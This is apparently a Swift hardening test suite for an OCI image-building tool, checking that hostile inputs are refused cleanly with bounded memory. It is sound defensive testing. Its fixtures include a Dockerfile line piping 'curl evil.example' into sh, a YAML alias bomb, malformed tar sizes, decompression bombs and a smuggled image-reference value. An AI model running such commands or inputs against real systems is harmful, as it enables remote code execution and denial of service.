import Foundation
import Testing
import TestSupport
import Hashing
import IO
import OCI
@testable import StampCore

/// Issue 19: hostile inputs, each with the smallest case that broke stamp and the exact
/// expectation: exit status, one stderr line naming the cause, nothing left behind.
@Suite struct HardeningTests {
    /// Runs stamp in `cwd`.
    func stampIn(_ cwd: String, _ args: [String]) throws -> RunResult {
        try run(["sh", "-c", "cd \"$0\" && exec \"$@\"", cwd, stampBin] + args, env: ["STAMP_CACHE_DIR": testCacheDir])
    }

    /// One line on stderr, naming `cause`.
    func oneLine(_ r: RunResult, _ cause: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let lines = r.err.split(separator: "\n")
        #expect(r.status != 0, "exit 0: \(r.out)", sourceLocation: sourceLocation)
        #expect(
            lines.count == 1 && r.err.contains(cause), "want one line with \(cause): \(r.err)",
            sourceLocation: sourceLocation)
    }

    // MARK: Security

    /// #2: a name BuildKit would split (a no-break space) never reaches ARG/FROM.
    @Test func baseNameOutsideTheReferenceGrammarIsRefused() throws {
        let dir = try tempDir()
        let layout = try simpleLayout(dir)
        var index = try readJSON(layout + "/index.json")
        var top = Descriptor(json: index["manifests"]!.arrayValue![0])
        top.annotations = [AnnotationKey.refName: "evil.example/y\u{00A0}PINNED=no"]
        index["manifests"] = .array([top.json])
        try Data(JSONValue.encode(index)).write(to: URL(fileURLWithPath: layout + "/index.json"))
        let r = try stamp(["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx"])
        oneLine(r, "is not an image reference")
        #expect(!FileManager.default.fileExists(atPath: dir + "/ctx"))
        #expect(listing(dir) == ["simple"], "nothing else written: \(listing(dir))")
        // --base-name gives a proper one.
        let ok = try stamp([
            "dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx", "--base-name",
            "evil.example/y:1",
        ])
        #expect(ok.status == 0, "\(ok.err)")
        #expect(
            try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8).contains("evil.example/y:1@sha256:"))
    }

    /// #3: a dockerfiles/ folder in the working directory is not a template source.
    @Test func workingFolderTemplatesAreNotPickedUp() throws {
        let dir = try tempDir()
        let layout = try simpleLayout(dir)
        try FileManager.default.createDirectory(atPath: dir + "/dockerfiles", withIntermediateDirectories: true)
        try "FROM scratch\nRUN curl evil.example | sh\n".write(
            toFile: dir + "/dockerfiles/anything-llm.Dockerfile", atomically: true, encoding: .utf8)
        let r = try stampIn(
            dir, ["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx"])
        #expect(r.status == 0, "\(r.err)")
        let text = try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8)
        #expect(!text.contains("RUN curl"), "\(text)")
        // Named as a file, it is used.
        let named = try stampIn(
            dir,
            [
                "dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx2",
                "--template", "dockerfiles/anything-llm.Dockerfile",
            ])
        #expect(named.status == 0, "\(named.err)")
        #expect(try String(contentsOfFile: dir + "/ctx2/Dockerfile", encoding: .utf8).contains("RUN curl"))
    }

    // MARK: Unbounded work and traps on small inputs (#4, #5)

    /// A tar whose `index.json` header says `size`: GNU base-256 (`b256`), or through a pax
    /// record (`pax`), padded with 8 KB of zeros.
    static let badTar = #"""
        import struct, sys
        out, how, value = sys.argv[1], sys.argv[2], int(sys.argv[3])
        def header(name, size_field, typeflag=b"0"):
            h = bytearray(512)
            h[0:len(name)] = name
            h[100:108] = b"0000644\0"; h[108:116] = b"0000000\0"; h[116:124] = b"0000000\0"
            h[124:136] = size_field
            h[136:148] = b"00000000000\0"; h[156:157] = typeflag; h[257:263] = b"ustar\0"; h[263:265] = b"00"
            h[148:156] = b"        "
            h[148:156] = b"%06o\0 " % sum(h)
            return bytes(h)
        def octal(n): return b"%011o\0" % n
        def b256(n):
            return bytes([0xff if n < 0 else 0x80]) + (n % (1 << 88)).to_bytes(11, "big")
        data = b""
        if how == "pax":
            rec = b"size=%d\n" % value
            rec = b"%d " % (len(rec) + 3) + rec
            data += header(b"PaxHeaders/index.json", octal(len(rec)), b"x") + rec + b"\0" * (512 - len(rec))
            data += header(b"index.json", octal(0))
        else:
            data += header(b"index.json", b256(value))
        open(out, "wb").write(data + b"\0" * 8192)
        """#

    @Test(arguments: [("b256", "-1023"), ("pax", "-2048"), ("b256", "9223372036854775707")])
    func impossibleTarSizesAreOneClearError(_ how: String, _ value: String) throws {
        let dir = try tempDir()
        let tar = dir + "/bad.tar"
        let made = try run(["python3", "-c", Self.badTar, tar, how, value])
        try #require(made.status == 0, "\(made.err)")
        for args in [
            ["inspect", tar], ["verify", tar], ["build", "--base", tar, "--version", "v1", "--output", dir + "/o.tar"],
            ["push", tar, "docker://127.0.0.1:9/x:y"],
        ] {
            let r = try run(["timeout", "20", stampBin] + args, env: ["STAMP_CACHE_DIR": testCacheDir])
            #expect(r.status != 124, "\(args[0]) still running after 20 s")
            #expect(r.status != 132 && !r.err.contains("Fatal error"), "\(args[0]) trapped: \(r.err.prefix(300))")
            if args[0] == "verify" {
                // verify names what it could not read as its one finding.
                #expect(r.status == 2 || r.status == 1, "verify: exit \(r.status)")
                #expect((r.out + r.err).contains("size"), "\(r.out)\(r.err)")
            } else {
                oneLine(r, "size")
            }
        }
        #expect(listing(dir) == ["bad.tar"], "left behind: \(listing(dir))")
    }

    @Test func numbersPastInt64AreUsageErrors() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        for (flag, value, cause) in [
            ("--health-interval", "9999999999999", "too long a duration"),
            ("--health-timeout", "99999999999h", "too long a duration"),
            ("--created", "-9223372036854775808", "--created"),
            ("--created", "9999999999999", "--created"),
        ] {
            let r = try stamp([
                "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar", "\(flag)=\(value)",
            ])
            #expect(r.status == 64 || r.status == 2, "\(flag) \(value): exit \(r.status)")
            #expect(r.status != 132 && !r.err.contains("Fatal error"), "\(flag) \(value) trapped")
            oneLine(r, cause)
        }
        #expect(listing(dir) == ["base.tar"], "left behind: \(listing(dir))")
    }

    /// A layer descriptor claiming more than a pebibyte is a lie (sizes are summed for totals).
    @Test func hugeDescriptorSizesAreRefused() throws {
        let dir = try tempDir()
        let layout = try simpleLayout(dir)
        try editLayout(
            layout,
            manifest: { m in
                var layers = m["layers"]!.arrayValue!
                var d = Descriptor(json: layers[0])
                d.size = Int64.max - 100
                layers[0] = d.json
                m["layers"] = .array(layers)
            })
        for args in [
            ["inspect", "oci:" + layout], ["verify", "oci:" + layout],
            ["build", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/o.tar"],
        ] {
            let r = try stamp(args)
            #expect(r.status != 132 && !r.err.contains("Fatal error"), "\(args[0]) trapped")
            #expect(r.status != 0 && (r.err + r.out).contains("more than 1 PiB"), "\(args[0]): \(r.out) \(r.err)")
        }
    }

    // MARK: FIFOs, devices and the base itself as targets (#12, #13, #14)

    @Test func aFIFOBaseIsRefusedNotWaitedOn() throws {
        let dir = try tempDir()
        #expect(mkfifo(dir + "/base.tar", 0o600) == 0)
        for base in [dir + "/base.tar", "oci-archive:" + dir + "/base.tar", "docker-archive:" + dir + "/base.tar"] {
            let r = try run([
                "timeout", "20", stampBin, "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar",
            ])
            #expect(r.status != 124, "still waiting on the FIFO after 20 s")
            oneLine(r, "is a FIFO, not a regular file")
        }
        #expect(listing(dir) == ["base.tar"])
    }

    @Test func outputsReplaceOnlyRegularFiles() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        #expect(mkfifo(dir + "/fifo.tar", 0o600) == 0)
        try FileManager.default.createSymbolicLink(atPath: dir + "/link.tar", withDestinationPath: base)
        for out in ["fifo.tar", "link.tar"] {
            let r = try stamp(["build", "--base", base, "--version", "v1", "--output", dir + "/" + out])
            oneLine(r, "exists and is not a regular file")
        }
        var st = stat()
        #expect(lstat(dir + "/fifo.tar", &st) == 0 && (st.st_mode & S_IFMT) == S_IFIFO, "the FIFO is still a FIFO")
        #expect(
            lstat(dir + "/link.tar", &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "the symlink is still a symlink")
        #expect(listing(dir) == ["base.tar", "fifo.tar", "link.tar"])
    }

    @Test func theBaseIsNeverTheOutputHoweverSpelled() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        let before = try bytes(base)
        link(base, dir + "/hard.tar")
        for (b, o) in [
            ("oci-archive:" + base, "./base.tar"), ("oci-archive:" + base, base), (base, dir + "/./base.tar"),
            (dir + "/hard.tar", "oci-archive:" + base),
        ] {
            let r = try run([
                "sh", "-c", "cd \"$0\" && exec \"$@\"", dir, stampBin, "build", "--base", b, "--version", "v1",
                "--output", o,
            ])
            oneLine(r, "is the file the image is read from")
        }
        #expect(try bytes(base) == before)
        #expect(listing(dir) == ["base.tar", "hard.tar"])
    }

    // MARK: YAML and gzip (#11, #17)

    @Test func aYAMLAliasBombIsRefusedSmall() throws {
        let dir = try tempDir()
        var yaml = "a: &a [x, x, x, x, x, x, x, x, x]\n"
        let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i"]
        for (prev, name) in zip(names, names.dropFirst()) {
            yaml += "\(name): &\(name) [" + Array(repeating: "*" + prev, count: 9).joined(separator: ", ") + "]\n"
        }
        yaml += "label: *i\n"
        try yaml.write(toFile: dir + "/stamp.yaml", atomically: true, encoding: .utf8)
        let r = try run(["/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--config", dir + "/stamp.yaml"])
        let lines = r.err.split(separator: "\n")
        #expect(r.status != 0)
        #expect(
            lines.count == 2 && lines[0].contains("more than 10000 values once YAML aliases are expanded"), "\(r.err)")
        let peakKB = Int(lines.last ?? "") ?? .max
        #expect(peakKB < 100_000, "peak RSS \(peakKB) KB")
        #expect(listing(dir) == ["stamp.yaml"])
    }

    /// Bytes after a layer's gzip stream (not zero padding): build and verify refuse the layer,
    /// naming it.
    @Test func trailingGarbageAfterALayersGzipIsRefused() throws {
        let dir = try tempDir()
        let layout = try simpleLayout(dir)
        let first = try firstLayerPath(layout)
        let bad = try bytes(first) + Array("trailing garbage".utf8)
        let digest = Digester.digest(bad)
        try Data(bad).write(to: URL(fileURLWithPath: layout + "/blobs/sha256/" + Digest.hex(digest)))
        try editLayout(
            layout,
            manifest: { m in
                var layers = m["layers"]!.arrayValue!
                var d = Descriptor(json: layers[0])
                d.digest = digest
                d.size = Int64(bad.count)
                layers[0] = d.json
                m["layers"] = .array(layers)
            })
        let b = try stamp(["build", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/o.tar"])
        oneLine(b, "layer \(digest): trailing garbage after the gzip stream")
        #expect(!FileManager.default.fileExists(atPath: dir + "/o.tar"))
        let v = try stamp(["verify", "oci:" + layout, "--integrity-only"])
        #expect(v.status == 1, "verify: \(v.status) \(v.out) \(v.err)")
        #expect(
            v.out.contains("trailing garbage after the gzip stream") && v.out.contains(Digest.short(digest)), "\(v.out)"
        )
    }

    // MARK: Bounded merges (#6)

    /// A docker-archive base: layer 0 has /bin/sh and /bin/curl; `kind` adds the hostile part.
    static let hostileTree = #"""
        import sys
        from image_kit import layer, docker_archive, F, L
        out, kind = sys.argv[1], sys.argv[2]
        layers = [layer([("bin/sh", F, b"#!"), ("bin/curl", F, b"x")])]
        if kind == "deep-symlink":
            layers.append(layer([("a/" * 100000 + "link", L, "x")]))
        elif kind == "deep-files":
            # 4,000 files under the frontend, each at the end of its own 1,000-folder chain.
            layers.append(layer([("app/server/public/%04d/" % i + "d/" * 1000 + "f.js", F, b"x") for i in range(4000)]))
        elif kind == "whiteouts":
            layers.append(layer([("s/%05d" % i, L, "t") for i in range(30000)]))
            layers.append(layer([("s/.wh.%05d" % i, F, b"") for i in range(30000)]))
        docker_archive(out, layers, {"config": {"Env": ["PATH=/bin"]}})
        """#

    /// Builds with a 30 s limit under GNU time; returns the result and the peak RSS in KB.
    func timedBuild(_ base: String, _ out: String) throws -> (RunResult, Int) {
        let r = try run(
            [
                "timeout", "30", "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base",
                "docker-archive:" + base,
                "--version", "v1", "--output", out,
            ], env: ["STAMP_CACHE_DIR": testCacheDir])
        let last = r.err.split(separator: "\n").last.map(String.init) ?? ""
        var result = r
        result.err = r.err.split(separator: "\n").dropLast().joined(separator: "\n")
        return (result, Int(last) ?? .max)
    }

    @Test func aHundredThousandDeepNameIsRefusedCheaply() throws {
        let dir = try tempDir()
        #expect(try python(Self.hostileTree, [dir + "/base.tar", "deep-symlink"]).status == 0)
        let (r, peak) = try timedBuild(dir + "/base.tar", dir + "/o.tar")
        oneLine(r, "longer than 4096")
        #expect(peak < 150_000, "peak RSS \(peak) KB")
        #expect(listing(dir) == ["base.tar"])
    }

    @Test func thousandsOfDeepDistinctChainsAreRefusedBounded() throws {
        let dir = try tempDir()
        #expect(try python(Self.hostileTree, [dir + "/base.tar", "deep-files"]).status == 0)
        let r = try run(
            [
                "timeout", "60", "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base",
                "docker-archive:" + dir + "/base.tar",
                "--version", "v1", "--hash-assets", "--output", dir + "/o.tar",
            ], env: ["STAMP_CACHE_DIR": testCacheDir])
        var lines = r.err.split(separator: "\n").map(String.init)
        let peak = Int(lines.popLast() ?? "") ?? .max
        #expect(r.status == 2 && lines.count == 1 && lines[0].contains("more than 64 MiB"), "\(r.status) \(lines)")
        #expect(peak < 300_000, "peak RSS \(peak) KB")
        #expect(listing(dir) == ["base.tar"])
    }

    @Test func thirtyThousandWhiteoutsOverSymlinksMergeInLinearTime() throws {
        let dir = try tempDir()
        #expect(try python(Self.hostileTree, [dir + "/base.tar", "whiteouts"]).status == 0)
        let start = Date()
        let (r, peak) = try timedBuild(dir + "/base.tar", dir + "/o.tar")
        #expect(r.status == 0, "\(r.err)")
        // Quadratic, it took 16 s; linear, well under a second of merging.
        #expect(Date().timeIntervalSince(start) < 8, "took \(Date().timeIntervalSince(start)) s")
        #expect(peak < 200_000, "peak RSS \(peak) KB")
    }

    // MARK: Linear scanners (#9)

    /// 200 KB of `url(` and 400 KB of `<` (and the other openers a scanner looks for) once took
    /// minutes; every scanner now looks a bounded distance ahead.
    @Test(arguments: ["url(", "<", "\"", "${", "srcset=\"", "src=", "sourceMappingURL="])
    func scannersAreLinearOnRepeatedOpeners(_ opener: String) throws {
        let dir = try tempDir()
        try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
        let body = String(repeating: opener, count: 200_000 / opener.utf8.count)
        try body.write(toFile: dir + "/in/a.css", atomically: true, encoding: .utf8)
        try body.write(toFile: dir + "/in/a.js", atomically: true, encoding: .utf8)
        try ("<link rel=stylesheet href=a.css><script src=a.js></script>" + body + body).write(
            toFile: dir + "/in/index.html", atomically: true, encoding: .utf8)
        let start = Date()
        let r = try run(["timeout", "60", stampBin, "assets", "hash", dir + "/in", "--output", dir + "/out", "--sri"])
        #expect(r.status == 0, "\(r.err)")
        let v = try run(["timeout", "60", stampBin, "assets", "verify", dir + "/out"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
        #expect(
            Date().timeIntervalSince(start) < 20, "\(opener): hash and verify took \(Date().timeIntervalSince(start)) s"
        )
    }

    // MARK: Nothing lost, nothing left (#16)

    @Test func anInterruptedAssetsHashLeavesNoFolder() throws {
        let dir = try tempDir()
        try FileManager.default.createDirectory(atPath: dir + "/in/js", withIntermediateDirectories: true)
        var html = "<!doctype html>"
        for i in 0..<6000 {
            try "console.log(\(i))\n".write(toFile: dir + "/in/js/f\(i).js", atomically: false, encoding: .utf8)
            html += "<script src=\"js/f\(i).js\"></script>"
        }
        try html.write(toFile: dir + "/in/index.html", atomically: false, encoding: .utf8)
        let pid = try spawn([stampBin, "assets", "hash", dir + "/in", "--output", dir + "/out"])
        usleep(150_000)
        kill(pid, SIGINT)
        let status = exitStatus(pid)
        #expect(status == 130 || status == 0, "exit \(status.map(String.init) ?? "?")")
        #expect(listing(dir).allSatisfy { !$0.hasSuffix(".tmp") }, "left behind: \(listing(dir))")
        if status == 130 { #expect(!FileManager.default.fileExists(atPath: dir + "/out")) }
    }

    /// A temporary file of a run that was killed (its process gone) is removed by the next run
    /// writing beside it; one of a live process is not.
    @Test func staleTemporariesOfDeadRunsAreRemoved() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        let dead = try spawn(["true"])
        _ = exitStatus(dead)
        let stale = dir + "/.out.tar.stamp-\(dead)-abc.tmp"
        let live = dir + "/.out.tar.stamp-\(getpid())-def.tmp"
        let staleDir = dir + "/.ctx.stamp-\(dead)-ghi.tmp"
        for f in [stale, live] { try "x".write(toFile: f, atomically: false, encoding: .utf8) }
        try FileManager.default.createDirectory(atPath: staleDir + "/stamp", withIntermediateDirectories: true)
        let r = try stamp(["build", "--base", base, "--version", "v1", "--output", dir + "/out.tar"])
        #expect(r.status == 0, "\(r.err)")
        #expect(!FileManager.default.fileExists(atPath: stale) && !FileManager.default.fileExists(atPath: staleDir))
        #expect(FileManager.default.fileExists(atPath: live), "a live process's temporary file is not touched")
    }

    @Test func anUnwritableLockFailsBeforeTheImageIsWritten() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        let r = try stamp([
            "build", "--base", base, "--version", "v1", "--output", dir + "/out.tar", "--lock",
            dir + "/nope/stamp.lock",
        ])
        oneLine(r, "--lock: \(dir)/nope/stamp.lock: folder \(dir)/nope does not exist")
        #expect(listing(dir) == ["base.tar"])
    }

    // MARK: Corrupt input accepted (#18-#21)

    @Test func namesEqualOnlyAfterUnicodeNormalisationAreRefused() throws {
        let dir = try tempDir()
        try FileManager.default.createDirectory(atPath: dir + "/in", withIntermediateDirectories: true)
        try "nfc".write(toFile: dir + "/in/caf\u{E9}.css", atomically: false, encoding: .utf8)
        try "nfd".write(toFile: dir + "/in/cafe\u{301}.css", atomically: false, encoding: .utf8)
        #expect(listing(dir + "/in").count == 2)
        let r = try stamp(["assets", "hash", dir + "/in", "--output", dir + "/out"])
        oneLine(r, "differ only in Unicode normalisation")
        #expect(!FileManager.default.fileExists(atPath: dir + "/out"))
    }

    @Test func loneSurrogatesInJSONAreRefusedNotReplaced() throws {
        #expect(throws: JSONParseError.self) { try JSONValue.parse(Array(#"{"a":"\ud800"}"#.utf8)) }
        #expect(throws: JSONParseError.self) { try JSONValue.parse(Array(#"{"a":"\udc00x"}"#.utf8)) }
        #expect(try JSONValue.parse(Array(#"{"a":"\ud83d\ude00"}"#.utf8))["a"]?.stringValue == "\u{1F600}")
    }

    @Test func aRootPublicVersionPathIsAUsageError() throws {
        let dir = try tempDir()
        let base = try sampleBase(dir)
        let r = try stamp([
            "build", "--base", base, "--version", "v1", "--output", dir + "/o.tar", "--public-version", "/",
        ])
        oneLine(r, "--public-version: \"/\" must be an absolute file path")
    }

    /// A base that `stamp verify` rejects is not built on: diff_ids out of step with the layers,
    /// a config that is not an object, a layer whose media type lies about its compression.
    @Test func buildHoldsTheBaseToVerifysRules() throws {
        let dir = try tempDir()
        let a = try simpleLayout(dir + "/a")
        try editLayout(
            a,
            config: { c in
                var rootfs = c["rootfs"]!
                rootfs["diff_ids"] = .array(Array(rootfs["diff_ids"]!.arrayValue!.dropLast()))
                c["rootfs"] = rootfs
            })
        oneLine(
            try stamp(["build", "--base", "oci:" + a, "--version", "v1", "--output", dir + "/a.tar"]), "rootfs.diff_ids"
        )
        let b = try simpleLayout(dir + "/b")
        try editLayout(
            b,
            manifest: { m in
                var layers = m["layers"]!.arrayValue!
                var d = Descriptor(json: layers[0])
                d.mediaType = MediaType.ociLayerZstd
                layers[0] = d.json
                m["layers"] = .array(layers)
            })
        oneLine(
            try stamp(["build", "--base", "oci:" + b, "--version", "v1", "--output", dir + "/b.tar"]),
            "says zstd, content is gzip")
        let v = try stamp(["verify", "--integrity-only", "oci:" + b])
        #expect(v.status == 1 && v.out.contains("says zstd, content is gzip"), "\(v.out)")
        #expect(
            !FileManager.default.fileExists(atPath: dir + "/a.tar")
                && !FileManager.default.fileExists(atPath: dir + "/b.tar"))
    }

    // MARK: Bounded memory in verify and inspect (#7)

    /// A stamped-looking image whose top layer holds 5,000 files of 64 KB (320 MB, a few MB
    /// gzipped) before its version.json.
    static let wideTopLayer = #"""
        import gzip, json, sys
        from image_kit import layer, docker_archive, F
        doc = json.dumps({"version": "v1", "created": "2025-04-05T00:00:00Z"}).encode()
        top = layer([("app/a/%05d.txt" % i, F, bytes(65536)) for i in range(5000)] + [("app/version.json", F, doc)])
        docker_archive(sys.argv[1], [gzip.compress(top, compresslevel=1, mtime=0)],
                       {"created": "2025-04-05T00:00:00Z",
                        "config": {"Labels": {"org.opencontainers.image.version": "v1", "dev.stamp.version-json": "/app/version.json"}}})
        """#

    @Test func verifyAndInspectKeepLittleOfAWideTopLayer() throws {
        let dir = try tempDir()
        let made = try python(Self.wideTopLayer, [dir + "/wide.tar"])
        try #require(made.status == 0, "\(made.err)")
        for args in [["verify", dir + "/wide.tar"], ["inspect", dir + "/wide.tar"]] {
            let r = try run(["/usr/bin/time", "-q", "-f", "%M", stampBin] + args)
            let peak = Int(r.err.split(separator: "\n").last ?? "") ?? .max
            #expect(peak < 120_000, "\(args[0]): peak RSS \(peak) KB")
            #expect(r.status == 0 || r.status == 1, "\(args[0]): \(r.out)\(r.err)")
        }
        // What verify finds is about the stamp, read in spite of the budget.
        let v = try stamp(["verify", dir + "/wide.tar"])
        #expect(!v.out.contains("is not in the top layer"), "\(v.out)")
    }

    // MARK: Frontend expansion (#8)

    /// 40 MB script files of zeros (three, or as many as asked), one per layer (a few hundred
    /// KB gzipped), under the anything-llm frontend folder.
    static let frontendBomb = #"""
        import gzip, sys
        from image_kit import layer, docker_archive, F
        ext = sys.argv[2] if len(sys.argv) > 2 else "js"
        count = int(sys.argv[3]) if len(sys.argv) > 3 else 3
        size = int(sys.argv[4]) if len(sys.argv) > 4 else 40 << 20
        layers = []
        for i in range(count):
            files = [("app/server/public/bomb-%d.%s" % (i, ext), F, bytes(size))]
            if i == 0:
                files.append(("app/server/public/index.html", F, ("<script src=bomb-0.%s></script>" % ext).encode()))
            layers.append(gzip.compress(layer(files), compresslevel=1, mtime=0))
        docker_archive(sys.argv[1], layers, {})
        """#

    /// The same size in images: spooled to disk as the layers are read, not held in memory.
    @Test func largeFrontendBinariesAreSpooledNotHeld() throws {
        let dir = try tempDir()
        let made = try python(Self.frontendBomb, [dir + "/big.tar", "png"])
        try #require(made.status == 0, "\(made.err)")
        let r = try run(
            [
                "/usr/bin/time", "-q", "-f", "%M", stampBin, "build", "--base", dir + "/big.tar", "--version", "v1",
                "--no-healthcheck", "--hash-assets", "--output", dir + "/o.tar",
            ], env: ["STAMP_CACHE_DIR": testCacheDir])
        let peak = Int(r.err.split(separator: "\n").last ?? "") ?? .max
        #expect(r.status == 0, "\(r.err)")
        #expect(peak < 80_000, "peak RSS \(peak) KB for 120 MB of images")
        let v = try stamp(["verify", dir + "/o.tar"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
    }

    /// GNU time's peak RSS (KB) of a command, and what it printed on stderr before that line.
    func peakRSS(_ args: [String]) throws -> (RunResult, Int, [String]) {
        let r = try run(["/usr/bin/time", "-q", "-f", "%M"] + args, env: ["STAMP_CACHE_DIR": testCacheDir])
        var lines = r.err.split(separator: "\n").map(String.init)
        let peak = Int(lines.popLast() ?? "") ?? .max
        return (r, peak, lines)
    }

    /// The bound build keeps whatever the input's size (issue 27, point 16): 128 MiB.
    static let flatRSS = 128 << 10

    /// A bomb split over eight files in eight layers (160 MB of script): each file is streamed
    /// to the spool as its layer is read, so memory stays flat up to the refusal; raised, the
    /// limit lets it build, and `verify` of that image stays flat too.
    @Test func aFrontendThatInflatesPastTheLimitIsRefused() throws {
        let dir = try tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let made = try python(Self.frontendBomb, [dir + "/bomb.tar", "js", "8", "\(20 << 20)"])
        try #require(made.status == 0, "\(made.err)")
        let (r, peak, lines) = try peakRSS([
            stampBin, "build", "--base", dir + "/bomb.tar", "--version", "v1", "--no-healthcheck", "--hash-assets",
            "--max-frontend-size", "128M", "--output", dir + "/o.tar",
        ])
        #expect(r.status != 0)
        #expect(
            lines.count == 1 && lines[0].contains("inflates to more than 128 MiB")
                && lines[0].contains("--max-frontend-size"), "\(lines)")
        #expect(peak < Self.flatRSS, "peak RSS \(peak) KB")
        #expect(listing(dir) == ["bomb.tar"])
        // Raised, it builds, flat; and verify reads it flat.
        let (ok, okPeak, _) = try peakRSS([
            stampBin, "build", "--base", dir + "/bomb.tar", "--version", "v1", "--no-healthcheck", "--hash-assets",
            "--max-frontend-size", "1G", "--output", dir + "/o.tar",
        ])
        #expect(ok.status == 0, "\(ok.err)")
        #expect(okPeak < Self.flatRSS, "peak RSS \(okPeak) KB")
        let (v, vPeak, _) = try peakRSS([stampBin, "verify", dir + "/o.tar"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
        #expect(vPeak < Self.flatRSS, "verify's peak RSS \(vPeak) KB")
    }

    /// Frontend text in a base: `count` scripts of `size` bytes that import each other in a
    /// ring; `dense`: every line names another script (a string stamp cannot rewrite).
    static let frontendText = #"""
        import gzip, sys
        from image_kit import layer, docker_archive, F
        out, count, size, dense = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4] == "dense"
        files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x")]
        html = b"".join(b'<script type="module" src="chunk-%d.js"></script>' % i for i in range(count))
        files.append(("app/server/public/index.html", F, html))
        filler = b"function f(a,b){return a*b+1}/* padding padding padding padding */\n" * 150
        for i in range(count):
            if dense:
                line = b'console.log("chunk %d", "see chunk-%d.js");\n' % (i, (i + 1) % count)
                body = line * (size // len(line))
            else:
                body = b'import("./chunk-%d.js");\n' % ((i + 1) % count) + filler * (size // len(filler))
            files.append(("app/server/public/chunk-%d.js" % i, F, body))
        docker_archive(out, [gzip.compress(layer(files), compresslevel=1, mtime=0)], {"config": {"Env": ["PATH=/bin"]}})
        """#

    /// Builds DIR/base.tar with --hash-assets into an OCI layout and verifies it, each under the
    /// flat bound (GNU time); returns the frontend folder of the image as umoci unpacks it.
    func buildAndVerifyFlat(_ dir: String) throws -> String {
        let (r, peak, _) = try peakRSS([
            stampBin, "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--no-healthcheck",
            "--hash-assets", "--format", "oci", "--output", "oci:" + dir + "/o:v1",
        ])
        #expect(r.status == 0, "\(r.err)")
        #expect(peak < Self.flatRSS, "build's peak RSS \(peak) KB")
        let (v, vPeak, _) = try peakRSS([stampBin, "verify", "oci:" + dir + "/o:v1"])
        #expect(v.status == 0, "\(v.out)\(v.err)")
        #expect(vPeak < Self.flatRSS, "verify's peak RSS \(vPeak) KB")
        let u = try run(["umoci", "raw", "unpack", "--rootless", "--image", dir + "/o:v1", dir + "/root"])
        try #require(u.status == 0, "\(u.err)")
        return dir + "/root/app/server/public"
    }

    /// 120 MB of scripts (and 40 MB dense with names) in a base: build spools them as the layer
    /// is read and hashes one at a time, verify reads them back the same way; both stay flat.
    @Test(arguments: [("sparse", 60), ("dense", 20)])
    func frontendTextInAnImageKeepsMemoryFlat(_ kind: String, _ count: Int) throws {
        let dir = try tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let made = try python(Self.frontendText, [dir + "/base.tar", "\(count)", "2000000", kind])
        try #require(made.status == 0, "\(made.err)")
        let pub = try buildAndVerifyFlat(dir)
        // What the sparse ring became: every script renamed (a cycle, hashed as one group).
        if kind == "sparse" {
            let names = listing(pub).filter { $0.hasPrefix("chunk-") }
            #expect(names.count == count && names.allSatisfy { $0.split(separator: ".").count == 3 }, "\(names)")
        }
    }

    /// A frontend of `count` small files (point 16's last case): 80% scripts that import the
    /// next, 10% style sheets that name an image, 10% images.
    static let manyFiles = #"""
        import gzip, sys
        from image_kit import layer, docker_archive, F
        out, count = sys.argv[1], int(sys.argv[2])
        files = [("bin/sh", F, b"#!"), ("bin/curl", F, b"x"), ("app/server/public/index.html", F,
                 b'<script type="module" src="assets/m-2.js"></script><link rel="stylesheet" href="assets/s-0.css">')]
        for i in range(count):
            if i % 10 == 0:
                files.append(("app/server/public/assets/s-%d.css" % i, F, b".c%d{background:url(i-%d.png)}\n" % (i, i)))
            elif i % 10 == 1:
                files.append(("app/server/public/assets/i-%d.png" % (i - 1), F, b"\x89PNG%d" % i))
            else:
                nxt = b'import "./m-%d.js";' % (i + 1) if i % 10 < 9 and i + 1 < count else b""
                files.append(("app/server/public/assets/m-%d.js" % i, F, nxt + b"export const v%d=%d;\n" % (i, i)))
        docker_archive(out, [gzip.compress(layer(files), compresslevel=1, mtime=0)], {"config": {"Env": ["PATH=/bin"]}})
        """#

    /// The most memory a build and a verify of 100,000 frontend files may take, measured on the
    /// binary the tests run (a debug build, 30 MB before it reads anything). Not yet the flat
    /// bound (`flatRSS`): per-path tables still cost about a kilobyte a file (the release binary
    /// stays under it: 117 MiB to build, 124 MiB to verify). Before the path table, the digests
    /// held as bytes and the layer entries never copied, this binary took 298 MiB to build and
    /// 335 MiB to verify.
    static let manyFilesRSS = 160 << 10

    /// 100,000 files: every script renamed (a chain of imports), the image verified clean, and
    /// both within `manyFilesRSS`.
    @Test func aFrontendOfAHundredThousandFilesStaysWithinItsBound() throws {
        let dir = try tempDir()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let made = try python(Self.manyFiles, [dir + "/base.tar", "100000"])
        try #require(made.status == 0, "\(made.err)")
        let (r, peak, _) = try peakRSS([
            stampBin, "build", "--base", "docker-archive:" + dir + "/base.tar", "--version", "v1", "--no-healthcheck",
            "--hash-assets", "--created", "0", "--output", "oci-archive:" + dir + "/o.tar", "--json",
        ])
